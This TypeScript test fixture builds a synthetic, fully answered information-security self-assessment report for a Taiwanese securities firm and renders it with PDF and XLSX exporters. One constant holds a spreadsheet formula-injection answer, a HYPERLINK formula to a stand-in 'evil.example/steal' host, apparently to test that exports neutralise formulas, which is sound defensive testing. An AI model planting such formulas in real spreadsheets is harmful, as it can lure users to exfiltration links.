import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { PROJECT_ROOT } from '../../src/server/config/version.js';
import type { AssessmentResult } from '../../src/server/modules/assessments/domain/results.js';
import type { CatalogDocument } from '../../src/server/modules/catalog/catalog-document.js';
import { writeAssessmentPdf } from '../../src/server/modules/reports/pdf-report.js';
import type {
  AssessmentReport,
  ChapterSummary,
  ReportEvidence,
  ReportItem,
} from '../../src/server/modules/reports/report-model.js';
import { writeAssessmentXlsx } from '../../src/server/modules/reports/xlsx-export.js';
import type { Locale } from '../../src/server/platform/i18n.js';

/**
 * A fully answered, approved assessment of the bundled catalog, as the report builder would assemble it:
 * every item answered with long zh-TW explanations (a few past the PDF's 1,200-character cell limit),
 * compensating controls on the gaps, evidence of every kind, out-of-scope items, and a sign-off with a
 * return, two reviewers and an approval. Exporters are pure functions of this model, so layout tests
 * render it without a database; the API tests cover the builder itself.
 */
export const CATALOG_FILE = path.join(PROJECT_ROOT, 'catalogs', 'tw-sfa-cloud-social-mobile', '1.0.json');

export const bundledCatalog = (): CatalogDocument =>
  JSON.parse(readFileSync(CATALOG_FILE, 'utf8')) as CatalogDocument;

const SENTENCE =
  '本公司已訂定雲端服務供應商評估程序，由資訊安全部門與法令遵循部門每年共同檢視服務水準協議、備援機制及稽核報告（SOC 2 Type II），並將評估紀錄保存於文件管理系統。';
const longText = (length: number, seed: number) => {
  let text = `第${seed}項：`;
  while (text.length < length) text += SENTENCE;
  return text.slice(0, length);
};

/** Answers a spreadsheet would take for formulas or numbers, were they not written as text. */
export const FORMULA_LIKE: Record<number, string> = {
  8: '=HYPERLINK("https://evil.example/steal","點此")',
  14: '-2',
};

/** A deterministic cycle of answers, so every result and every layout case occurs. */
const RESULTS: AssessmentResult[] = [
  'compliant',
  'partially_compliant',
  'non_compliant',
  'compliant',
  'not_applicable',
  'not_assessed',
  'compliant',
];

function evidenceFor(number: number): ReportEvidence[] {
  const sha = (text: string) => createHash('sha256').update(text).digest('hex');
  const all: ReportEvidence[] = [
    {
      id: `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`,
      kind: 'file',
      title: `第${number}項 雲端服務供應商評估報告（${115}年度）.pdf`,
      sha256: sha(`file-${number}`),
      url: null,
      validUntil: '2027-06-30',
      expired: false,
    },
    {
      id: `00000000-0000-4000-9000-${String(number).padStart(12, '0')}`,
      kind: 'link',
      title: '資訊安全政策（內部文件系統）',
      sha256: null,
      url: `https://intranet.example.com.tw/policies/information-security/cloud-${number}?version=2026`,
      validUntil: null,
      expired: false,
    },
    {
      id: `00000000-0000-4000-a000-${String(number).padStart(12, '0')}`,
      kind: 'note',
      title: '稽核室訪談紀錄',
      sha256: null,
      url: null,
      validUntil: '2025-12-31',
      expired: true,
    },
  ];
  return all.slice(0, (number % 3) + 1);
}

function itemOf(source: CatalogDocument['checklist'][number], index: number): ReportItem {
  const applicable = source.tags.includes('byod') ? false : index % 11 !== 10;
  const result = applicable ? RESULTS[index % RESULTS.length]! : 'not_applicable';
  // Items 5, 20 and 41 carry explanations past the PDF's cell limit; the rest range from a line to a page.
  const length = [5, 20, 41].includes(source.number) ? 1_500 : 40 + ((index * 97) % 520);
  return {
    id: `10000000-0000-4000-8000-${String(source.number).padStart(12, '0')}`,
    itemId: source.id,
    number: source.number,
    chapter: source.chapter,
    sectionName: source.sectionName,
    role: source.role,
    question: source.question,
    provenance: source.provenance,
    references: source.references,
    applicable,
    notApplicableReason: applicable ? null : { 'zh-TW': '依第15條不適用', en: 'Excluded by article 15' },
    result,
    explanation:
      FORMULA_LIKE[source.number] ?? (result === 'not_assessed' ? '' : longText(length, source.number)),
    compensatingControl:
      result === 'non_compliant' || result === 'partially_compliant' ? longText(180, source.number) : '',
    assigneeName: index % 2 === 0 ? '王小明' : 'Chen Mei-Ling',
    dueDate: result === 'non_compliant' ? '2027-03-31' : null,
    version: 3,
    updatedAt: '2026-03-02T05:06:07.000Z',
    evidence: evidenceFor(source.number),
  };
}

/** Chapter counts as the assessments repository computes them in SQL. */
function countsOf(items: ReportItem[]): Omit<ChapterSummary, 'chapter' | 'title'> {
  const applicable = items.filter((i) => i.applicable);
  const count = (result: AssessmentResult) => applicable.filter((i) => i.result === result).length;
  const answeredNotApplicable = count('not_applicable');
  const scored = applicable.length - answeredNotApplicable;
  const points = count('compliant') + 0.5 * count('partially_compliant');
  return {
    applicable: applicable.length,
    notApplicable: items.length - applicable.length,
    compliant: count('compliant'),
    partiallyCompliant: count('partially_compliant'),
    nonCompliant: count('non_compliant'),
    answeredNotApplicable,
    notAssessed: count('not_assessed'),
    rate: scored === 0 ? null : points / scored,
  };
}

export function fullReport(overrides: Partial<AssessmentReport> = {}): AssessmentReport {
  const catalog = bundledCatalog();
  const items = catalog.checklist.map(itemOf);
  const chapters = catalog.chapters
    .map((chapter) => ({ chapter, items: items.filter((i) => i.chapter === chapter.number) }))
    .filter(({ items: inChapter }) => inChapter.length > 0)
    .map(({ chapter, items: inChapter }) => ({
      chapter: chapter.number,
      title: chapter.title,
      ...countsOf(inChapter),
    }));
  return {
    generatedAt: '2026-03-05T01:02:03.000Z',
    organization: {
      id: '20000000-0000-4000-8000-000000000001',
      name: '檢核測試證券股份有限公司',
      businessId: '12345678',
    },
    assessment: {
      id: '30000000-0000-4000-8000-000000000001',
      name: '115年度雲端運算、社群媒體及行動裝置資訊安全自評',
      period: '115年度',
      state: 'approved',
      revision: 2,
      dueDate: '2026-06-30',
      ownerName: '王小明',
      fingerprint: createHash('sha256').update('fixture').digest('hex'),
      fingerprintAlgorithm: 'sha256-canonical-json-v1',
      approvedAt: '2026-03-04T08:00:00.000Z',
      createdAt: '2026-01-02T01:00:00.000Z',
      updatedAt: '2026-03-04T08:00:00.000Z',
    },
    catalog: { urn: catalog.id, version: catalog.version, title: catalog.title },
    items,
    chapters,
    overall: countsOf(items),
    signoff: [
      { action: 'submitted', actorName: '王小明', at: '2026-02-20T02:00:00.000Z', comment: null },
      {
        action: 'returned',
        actorName: '林覆核（資訊安全部 副理）',
        at: '2026-02-21T03:30:00.000Z',
        comment: `請補充第5項之稽核報告與第20項之補償性措施，並說明預計完成日期。${SENTENCE}`,
      },
      { action: 'submitted', actorName: '王小明', at: '2026-02-25T02:00:00.000Z', comment: '已補充' },
      {
        action: 'reviewed',
        actorName: '林覆核（資訊安全部 副理）',
        at: '2026-03-01T06:00:00.000Z',
        comment: null,
      },
      { action: 'reviewed', actorName: 'Chen Mei-Ling', at: '2026-03-02T06:10:00.000Z', comment: null },
      {
        action: 'approved',
        actorName: '張核定（總經理）',
        at: '2026-03-04T08:00:00.000Z',
        comment: '同意核定，請於期限內完成改善。',
      },
    ],
    ...overrides,
  };
}

async function collect(write: (output: PassThrough) => Promise<void>): Promise<Buffer> {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  await write(output);
  return Buffer.concat(chunks);
}

/** The report as the PDF exporter writes it. */
export const renderPdf = (report: AssessmentReport, locale: Locale = 'zh-TW') =>
  collect((output) => writeAssessmentPdf(report, { locale }, output));

/** The report as the XLSX exporter writes it. */
export const renderXlsx = (report: AssessmentReport, locale: Locale = 'zh-TW') =>
  collect((output) => writeAssessmentXlsx(report, { locale }, output));
